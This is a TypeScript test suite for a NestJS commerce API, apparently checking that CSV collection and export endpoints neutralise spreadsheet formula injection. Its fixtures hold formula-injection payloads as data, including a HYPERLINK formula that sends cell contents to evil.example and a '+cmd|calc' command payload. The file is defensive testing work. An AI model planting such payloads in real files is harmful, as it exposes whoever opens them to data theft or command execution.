import type { NestExpressApplication } from '@nestjs/platform-express';
import { parse } from 'csv-parse/sync';
import { createOrder, createShipment } from '../factories/commerce.factory';
import { createTenant, type Tenant } from '../factories/tenant.factory';
import { closeTestApp, createTestApp } from '../support/app';
import { api } from '../support/http';

/**
 * Issue 11 item 5: text a spreadsheet would run as a formula comes back neutralised (a leading
 * `'`) from CSV collections and exports, while negative amounts stay numbers.
 */
describe('security: CSV formula injection', () => {
  let app: NestExpressApplication;
  let tenant: Tenant;
  const formula = '=HYPERLINK("https://evil.example/?x="&A1,"Click")';

  beforeAll(async () => {
    app = await createTestApp();
    tenant = await createTenant(app);
    await createShipment(app, tenant, { address: { city: formula, company: '@SUM(1+1)' } });
    await createOrder(app, tenant, {
      total: '-12.50',
      subtotal: '-3',
      shippingAddress: { company: '+cmd|calc' },
    });
  });
  afterAll(() => closeTestApp(app));

  const csv = async (path: string) => {
    const res = await api(app, { token: tenant.token, accept: 'text/csv' })
      .get(path)
      .buffer(true)
      .parse((response, done) => {
        let text = '';
        response.setEncoding('utf8');
        response.on('data', (c: string) => (text += c));
        response.on('end', () => done(null, text));
      })
      .expect(200);
    return parse(res.body as string, { columns: true }) as Array<Record<string, string>>;
  };

  it('prefixes formula cells in a CSV collection', async () => {
    const [row] = await csv('/shipments');
    expect(row['address.city']).toBe(`'${formula}`);
    expect(row['address.company']).toBe("'@SUM(1+1)");
  });

  it('keeps negative amounts numeric and neutralises text in orders', async () => {
    const [row] = await csv('/orders');
    expect(row.total).toBe('-12.50');
    expect(row.subtotal).toBe('-3');
    expect(row['shippingAddress.company']).toBe("'+cmd|calc");
  });

  it('prefixes formula cells in an export file', async () => {
    const http = api(app, { token: tenant.token });
    const started = await http.post('/export', { entity: 'shipments' }).expect(200);
    let record: Record<string, any> = started.body;
    for (let i = 0; i < 100 && !['done', 'failed'].includes(record.status); i++) {
      await new Promise((r) => setTimeout(r, 100));
      record = (await http.get(`/exports/${started.body.id}`).expect(200)).body;
    }
    expect(record.status).toBe('done');
    const [row] = await csv(`/exports/${started.body.id}/download`);
    expect(row['address.city']).toBe(`'${formula}`);
  });
});
